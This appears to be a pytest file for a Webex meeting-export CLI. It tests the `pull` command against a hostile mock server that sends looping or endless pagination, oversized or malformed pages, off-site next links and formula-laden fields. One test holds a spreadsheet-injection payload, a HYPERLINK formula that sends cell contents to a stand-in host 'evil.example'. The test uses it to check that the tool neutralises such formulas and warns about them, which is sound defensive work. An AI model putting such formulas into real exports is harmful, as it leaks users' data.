"""The hostile trial, part E: what a server lists cannot loop, bloat or mislead `pull` (real CLI)."""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from cli_helpers import invoke
from hostile import Answer, HostileServer, always, webex_error

from bulkpatch.client import REPLY_CAP
from bulkpatch.sandbox.process import read_until

FAST = {"BULKPATCH_BACKOFF_BASE": "0", "BULKPATCH_BACKOFF_CAP": "0"}
#: What a page of ``items`` and its next link (None: the last page) are drawn from.
Pager = Callable[[web.Request], tuple[list[dict[str, Any]], str | None]]


def meeting(index: int) -> dict[str, Any]:
    """A meeting series a week or more ahead, as List Meetings shows it."""
    start = (datetime.now(UTC) + timedelta(days=7 + index)).replace(microsecond=0)
    return {
        "id": f"m{index:031d}",
        "title": f"Meeting {index}",
        "meetingType": "meetingSeries",
        "state": "active",
        "timezone": "UTC",
        "start": start.isoformat(),
        "end": (start + timedelta(minutes=30)).isoformat(),
        "hostEmail": "host@example.com",
    }


def paged(pager: Pager) -> Answer:
    """An answer serving the pages ``pager`` draws, with its next link."""

    async def answer(request: web.Request) -> web.StreamResponse:
        items, next_url = pager(request)
        headers = {"Link": f'<{next_url}>; rel="next"'} if next_url else None
        return web.json_response({"items": items}, headers=headers)

    return answer


def pull(server: HostileServer, out: Path, *extra: str) -> tuple[int, str, str]:
    with pytest.MonkeyPatch.context() as patch:
        for key, value in FAST.items():
            patch.setenv(key, value)
        return invoke(
            "pull", "-o", str(out), "--base-url", server.api_url, "--max-rate", "1000", *extra
        )


def ids_in(path: Path) -> list[str]:
    with path.open(newline="") as handle:
        return [row["meetingId"] for row in csv.DictReader(handle)]


def _the_same_page(request: web.Request) -> tuple[list[dict[str, Any]], str | None]:
    return [meeting(i) for i in range(5)], str(request.url)


def _two_pages_in_a_ring(request: web.Request) -> tuple[list[dict[str, Any]], str | None]:
    page = request.query.get("page", "a")
    other = "b" if page == "a" else "a"
    first = 0 if page == "a" else 3
    return [meeting(i) for i in range(first, first + 3)], str(request.url.update_query(page=other))


@pytest.mark.parametrize("pager", [_the_same_page, _two_pages_in_a_ring], ids=["same", "ring"])
def test_a_next_link_that_loops_is_refused(
    hostile: Callable[[Answer], HostileServer], tmp_path: Path, pager: Pager
) -> None:
    """A next link back to a page already read ends the listing with a clear failure after a
    few requests; the meetings it did list are written once each."""
    server = hostile(paged(pager))
    out = tmp_path / "pulled.csv"
    code, stdout, _ = pull(server, out)
    assert code == 1, stdout
    assert "the server's next page link repeats" in stdout
    assert len(server.received) <= 4
    ids = ids_in(out)
    assert len(ids) == len(set(ids)) == (5 if pager is _the_same_page else 6)
    listed = 10 if pager is _the_same_page else 9
    assert f"Pulled {listed} meetings" in stdout
    assert f"  left out  {listed - len(ids)} of the {listed} listed:" in stdout
    assert f"              {listed - len(ids)} listed again" in stdout


def test_a_listing_of_endless_pages_stops_at_the_cap(
    hostile: Callable[[Answer], HostileServer], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Next links that never repeat and never end stop at the page cap, saying so."""
    monkeypatch.setattr("bulkpatch.workflows.listing.MAX_PAGES", 3)
    server = hostile(paged(_endless))
    code, stdout, _ = pull(server, tmp_path / "pulled.csv")
    assert code == 1, stdout
    assert "more than 3 pages" in stdout
    assert len(server.received) == 3


def _endless(request: web.Request) -> tuple[list[dict[str, Any]], str | None]:
    page = int(request.query.get("page", "0"))
    return [meeting(page)], str(request.url.update_query(page=page + 1))


def test_ctrl_c_stops_a_long_listing_between_pages(
    hostile: Callable[[Answer], HostileServer], tmp_path: Path
) -> None:
    """Ctrl-C while one host's pages go on and on: no further page is asked for; exit 3."""
    server = hostile(paged(_endless))
    out = tmp_path / "pulled.csv"
    command = ["pull", "-o", str(out), "--base-url", server.api_url, "-v", "--log-format", "json"]
    process = subprocess.Popen(
        [sys.executable, "-m", "bulkpatch", *command],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env={**os.environ, "WEBEX_ACCESS_TOKEN": "any-token"},
        bufsize=0,
    )
    try:
        read_until(process.stderr, b'"pull.page"', 60)
        process.send_signal(signal.SIGINT)
        stdout, _ = process.communicate(timeout=60)
    finally:
        process.kill()
        process.wait()
    assert process.returncode == 3, stdout
    assert b"nothing was written" in stdout
    assert len(server.received) < 1000


def _overlapping_pages(request: web.Request) -> tuple[list[dict[str, Any]], str | None]:
    """A listing that shifted while read: page 2 repeats 3 and 4 of page 1."""
    if request.query.get("page") == "2":
        return [meeting(i) for i in range(3, 7)], None
    return [meeting(i) for i in range(5)], str(request.url.update_query(page="2"))


def _invitee_listings(request: web.Request) -> tuple[list[dict[str, Any]], str | None]:
    """Each host's listing holds their meetings and those they are invited to (as the API's
    hostEmail does): a@ hosts 0 to 2 and is invited to 5 and 6, which b@ hosts with 3 and 4."""
    b_hosts = [{**meeting(i), "hostEmail": "b@example.com"} for i in range(3, 7)]
    if request.query.get("hostEmail") == "b@example.com":
        return b_hosts, None
    return [meeting(i) for i in range(3)] + b_hosts[2:], None


@pytest.mark.parametrize(
    ("pager", "flags", "order"),
    [
        (_overlapping_pages, [], range(7)),
        (
            _invitee_listings,
            ["--host-email", "a@example.com", "--host-email", "b@example.com"],
            [0, 1, 2, 5, 6, 3, 4],
        ),
    ],
    ids=["pages", "hosts"],
)
def test_a_meeting_listed_twice_is_written_once_and_counted(
    hostile: Callable[[Answer], HostileServer],
    tmp_path: Path,
    pager: Pager,
    flags: list[str],
    order: list[int],
) -> None:
    """A meeting on two pages, or in two hosts' listings, is one row (with its own host) and
    one snapshot line; the summary counts the repeat as listed again."""
    server = hostile(paged(pager))
    out = tmp_path / "pulled.csv"
    code, stdout, _ = pull(server, out, *flags)
    assert code == 0, stdout
    assert ids_in(out) == [meeting(i)["id"] for i in order]
    assert len(Path(f"{out}.snapshot.jsonl").read_text().splitlines()) == 7
    if flags:
        with out.open(newline="") as handle:
            hosts = [row["hostEmail"] for row in csv.DictReader(handle)]
        assert hosts == ["host@example.com"] * 3 + ["b@example.com"] * 4
    assert "Pulled 9 meetings" in stdout
    assert ": 7 rows\n" in stdout
    assert "  left out  2 of the 9 listed:\n              2 listed again" in stdout
    assert ": 7 meetings (bulkpatch sandbox --seed takes it)" in stdout


@pytest.mark.parametrize(
    ("hosts", "headline"),
    [
        (["gone@example.com"], "nothing written: the listing failed (below)"),
        (
            ["gone@example.com", "empty@example.com"],
            "the listing failed for 1 of 2 hosts (below); the others had no meeting in that range",
        ),
    ],
    ids=["one-host", "one-of-two"],
)
def test_a_failed_listing_says_so_and_names_the_host(
    hostile: Callable[[Answer], HostileServer], tmp_path: Path, hosts: list[str], headline: str
) -> None:
    """A host whose listing is refused is named with the API's reason; nothing claims the
    range was empty where it could not be read."""
    refused = always(400, webex_error("hostEmail is not a user of this site"))
    empty = paged(lambda _: ([], None))

    async def answer(request: web.Request) -> web.StreamResponse:
        gone = request.query.get("hostEmail") == "gone@example.com"
        return await (refused if gone else empty)(request)

    server = hostile(answer)
    flags = [flag for host in hosts for flag in ("--host-email", host)]
    code, stdout, _ = pull(server, tmp_path / "pulled.csv", *flags)
    assert code == 1, stdout
    assert headline in stdout
    assert "nothing to write: no meeting in that range" not in stdout
    assert "gone@example.com: hostEmail is not a user of this site" in stdout


async def _oversized(request: web.Request) -> web.StreamResponse:
    response = web.StreamResponse(status=200, headers={"Content-Type": "application/json"})
    await response.prepare(request)
    await response.write(b'{"items": [' + b" " * (REPLY_CAP + 10) + b"]}")
    return response


@pytest.mark.parametrize(
    ("answer", "reason"),
    [
        (_oversized, f"the answer was over {REPLY_CAP:,} bytes and not read"),
        (always(200, {"items": "none"}), '"items" is a JSON string, not a list'),
        (always(200, {"results": []}), 'the answer has no "items"'),
        (always(200, [1, 2]), "the answer is a JSON array, not an object"),
        (always(204), "the answer (HTTP 204) was empty or not JSON"),
    ],
    ids=["oversized", "items-not-a-list", "no-items", "array", "empty"],
)
def test_a_page_that_is_not_a_list_says_what_was_wrong(
    hostile: Callable[[Answer], HostileServer], tmp_path: Path, answer: Answer, reason: str
) -> None:
    """A 2xx page without a readable list of items fails the host with the reason why."""
    server = hostile(answer)
    code, stdout, _ = pull(server, tmp_path / "pulled.csv")
    assert code == 1, stdout
    assert f"has no list of items: {reason}" in stdout


def test_a_next_link_off_the_base_url_stops_the_pull_as_a_redirect(
    hostile: Callable[[Answer], HostileServer], tmp_path: Path
) -> None:
    """A next page elsewhere is never followed nor retried: the pull stops (redirect) naming
    it, and nothing talks of a host that does not answer."""
    elsewhere = hostile(always(200, {"items": []}))
    server = hostile(paged(lambda _: ([meeting(0)], f"{elsewhere.url}/v1/meetings?page=2")))
    out = tmp_path / "pulled.csv"
    code, stdout, _ = pull(server, out)
    assert code == 3, stdout
    assert "stopped (redirect)" in stdout
    assert f"the server pointed to '{elsewhere.url}/v1/meetings?page=2'" in stdout
    assert "does not answer" not in stdout
    assert "in a row" not in stdout
    assert len(server.received) == 1
    assert elsewhere.received == []
    assert not out.exists()


@pytest.mark.parametrize("kinds", ["series", "both"])
def test_items_that_are_not_meetings_are_passed_over(
    hostile: Callable[[Answer], HostileServer], tmp_path: Path, kinds: str
) -> None:
    """Items that are not meeting objects (numbers, strings, null, no id) are left out and
    counted, and no occurrence listing is asked for them."""
    server = hostile(paged(lambda _: ([1, "x", None, {"title": "no id"}, meeting(0)], None)))  # type: ignore[list-item]
    out = tmp_path / "pulled.csv"
    code, stdout, _ = pull(server, out, "--type", kinds)
    assert code == 0, stdout
    assert ids_in(out) == [meeting(0)["id"]]
    assert len(server.received) == (1 if kinds == "series" else 2)
    # The server answers the occurrence listing with the same page: meeting(0) again, 4 more.
    others = 4 if kinds == "series" else 8
    assert f"and {others} other items" in stdout
    assert f"              {others} not meetings (no id): passed over" in stdout
    assert ("1 listed again" in stdout) is (kinds == "both")


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_formulas_in_pulled_text_are_neutralised_in_notes_and_counted_in_fields(
    hostile: Callable[[Answer], HostileServer], tmp_path: Path, suffix: str
) -> None:
    """CSV: a formula in a `#` note gets a leading apostrophe, one in a field (sent as is) is
    kept exact and counted in a warning. JSON Lines is no spreadsheet: everything is exact."""
    risky = {**meeting(0), "title": FORMULA, "agenda": "-3+4", "hostEmail": "@evil.example"}
    server = hostile(paged(lambda _: ([risky, meeting(1)], None)))
    out = tmp_path / f"pulled{suffix}"
    code, stdout, _ = pull(server, out, "--fields", "title,agenda")
    assert code == 0, stdout
    if suffix == ".csv":
        with out.open(newline="") as handle:
            first = next(csv.DictReader(handle))
        assert (first["title"], first["agenda"]) == (FORMULA, "-3+4")
        assert (first["#title"], first["#host"]) == (f"'{FORMULA}", "'@evil.example")
        assert "2 cells start with =, +, - or @: a spreadsheet may run them as formulas" in stdout
    else:
        first = json.loads(out.read_text().splitlines()[0])
        assert first["changes"] == {"title": FORMULA, "agenda": "-3+4"}
        assert (first["#title"], first["#host"]) == (FORMULA, "@evil.example")
        assert "spreadsheet" not in stdout
